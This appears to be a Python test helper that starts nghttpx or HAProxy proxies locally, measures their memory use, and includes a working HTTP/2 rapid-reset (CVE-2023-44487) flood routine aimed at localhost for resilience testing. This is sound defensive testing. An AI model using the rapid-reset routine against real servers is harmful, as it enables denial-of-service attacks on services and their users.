"""An HTTP/2 reverse proxy from Debian in front of a test server, memory sampling of both, and
an HTTP/2 rapid-reset burst.

Proxy("nghttpx", backend_port) runs nghttpx on deploy/proxy/nghttpx.conf, the configuration the
image and the Kubernetes pod run, with its frontend and backend addresses changed.
Proxy("haproxy", backend_port) runs HAProxy on bench/proxy_haproxy.cfg, the candidate it was
measured against (bench/proxy_rapid_reset.py), with the addresses from the environment
variables that file reads. Both listen on 127.0.0.1 at a free port.
"""
import os
import re
import shutil
import socket
import subprocess
import tempfile
import threading
import time

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
NGHTTPX_CONFIG = os.path.join(ROOT, "deploy", "proxy", "nghttpx.conf")
HAPROXY_CONFIG = os.path.join(ROOT, "bench", "proxy_haproxy.cfg")


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def process_tree(pid):
    """pid and its descendants (nghttpx forks a worker)."""
    children = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as f:
                    parent = int(f.read().rsplit(")", 1)[1].split()[1])
                children.setdefault(parent, []).append(int(entry))
            except (OSError, IndexError, ValueError):
                pass
    tree, stack = [], [pid]
    while stack:
        p = stack.pop()
        tree.append(p)
        stack.extend(children.get(p, []))
    return tree


def resident_megabytes(pids):
    """The summed VmRSS of `pids` (those still running), in MB."""
    total = 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/status") as f:
                match = re.search(r"^VmRSS:\s+(\d+) kB", f.read(), re.M)
            total += int(match.group(1)) if match else 0
        except OSError:
            pass
    return total / 1024


class PeakSampler(threading.Thread):
    """Samples the summed RSS of each named process tree every `interval` seconds until
    stopped; `peaks` holds the largest sum seen for each."""

    def __init__(self, pids_by_name, interval=0.05):
        super().__init__(daemon=True)
        self.pids_by_name, self.interval = pids_by_name, interval
        self.peaks = {name: 0.0 for name in pids_by_name}
        self.samples = 0
        self.done = threading.Event()

    def run(self):
        while not self.done.is_set():
            for name, pids in self.pids_by_name.items():
                self.peaks[name] = max(self.peaks[name], resident_megabytes(pids))
            self.samples += 1
            self.done.wait(self.interval)

    def stop(self):
        self.done.set()
        self.join()
        return self.peaks


class Proxy:
    def __init__(self, kind, backend_port, config=None, metrics_port=None):
        self.kind, self.port, self.metrics_port = kind, free_port(), free_port()
        self.log = tempfile.NamedTemporaryFile("w+", prefix=f"{kind}-{self.port}-", suffix=".log")
        self.workdir = tempfile.mkdtemp(prefix=f"{kind}-")
        binary = shutil.which(kind)
        if binary is None:
            raise RuntimeError(f"{kind} is missing: scripts/install-deps.sh installs it")
        env = dict(os.environ)
        if kind == "haproxy":
            env.update(ATTNSERVE_PROXY_BIND=f"127.0.0.1:{self.port}",
                       ATTNSERVE_BACKEND=f"127.0.0.1:{backend_port}")
            command = [binary, "-db", "-f", config or HAPROXY_CONFIG]
        elif kind == "nghttpx":
            with open(config or NGHTTPX_CONFIG) as f:
                text = f.read()
            # The first frontend is gRPC's, the second /metrics'; the catch-all backend (no
            # pattern) is the server's gRPC port, the /metrics one its metrics port.
            fronts = iter([self.port, self.metrics_port])
            text = re.sub(r"(?m)^frontend=.*$",
                          lambda m: f"frontend=127.0.0.1,{next(fronts)};no-tls", text)

            def backend(match):
                pattern = match.group(1)
                port = metrics_port if pattern == "/metrics" else backend_port
                return f"backend=127.0.0.1,{port or backend_port};{pattern};"
            text = re.sub(r"(?m)^backend=[^;]*;([^;]*);", backend, text)
            path = os.path.join(self.workdir, "nghttpx.conf")
            with open(path, "w") as f:
                f.write(text)
            command = [binary, f"--conf={path}", f"--pid-file={self.workdir}/pid"]
        else:
            raise ValueError(kind)
        self.process = subprocess.Popen(command, stdout=self.log, stderr=subprocess.STDOUT,
                                        env=env, cwd=self.workdir)
        deadline = time.time() + 10
        while True:
            if self.process.poll() is not None:
                raise RuntimeError(f"{kind} exited {self.process.returncode}: {self.output()}")
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
                break
            except OSError:
                if time.time() > deadline:
                    raise RuntimeError(f"{kind} does not listen: {self.output()}")
                time.sleep(0.05)

    @property
    def target(self):
        return f"127.0.0.1:{self.port}"

    def pids(self):
        return process_tree(self.process.pid)

    def output(self):
        self.log.flush()
        self.log.seek(0)
        return self.log.read()

    def stop(self):
        if self.process.poll() is None:
            pids = self.pids()
            self.process.terminate()
            try:
                self.process.wait(10)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
            for pid in pids[1:]:  # a worker left behind
                try:
                    os.kill(pid, 9)
                except OSError:
                    pass
        self.log.close()
        shutil.rmtree(self.workdir, ignore_errors=True)


def rapid_reset(port, connections, streams):
    """HTTP/2 rapid reset (CVE-2023-44487), as tests/e2e/server_test.py's Http2AbuseTest sends it:
    on each of `connections` connections, `streams` calls opened and cancelled at once (HEADERS,
    then RST_STREAM), as fast as the socket takes them. A peer that closes the connection ends
    that connection's part. Returns, per connection, how many streams were written before it
    ended and how it ended ("sent", or the error)."""
    import h2.config
    import h2.connection
    import h2.errors
    import h2.exceptions

    outcomes = [None] * connections

    def attack(index):
        sent, how = 0, "sent"
        try:
            with socket.create_connection(("127.0.0.1", port)) as sock:
                connection = h2.connection.H2Connection(
                    h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
                connection.initiate_connection()
                headers = [(":method", "POST"), (":scheme", "http"),
                           (":path", "/attnserve.v1.Inference/NextToken"),
                           (":authority", f"127.0.0.1:{port}"),
                           ("content-type", "application/grpc"), ("te", "trailers")]
                for i in range(streams):
                    connection.send_headers(2 * i + 1, headers)
                    connection.reset_stream(2 * i + 1, h2.errors.ErrorCodes.CANCEL)
                    if i % 100 == 99:
                        sock.sendall(connection.data_to_send())
                        sent = i + 1
                        sock.setblocking(False)
                        try:  # the peer's frames: settings, window updates, GOAWAY
                            while incoming := sock.recv(1 << 16):
                                connection.receive_data(incoming)
                        except BlockingIOError:
                            pass
                        sock.setblocking(True)
                sock.sendall(connection.data_to_send())
                sent = streams
        except (OSError, h2.exceptions.ProtocolError) as e:
            how = f"{type(e).__name__} after {sent} streams"
        outcomes[index] = how if how != "sent" else f"{sent} sent"

    threads = [threading.Thread(target=attack, args=(i,)) for i in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return outcomes
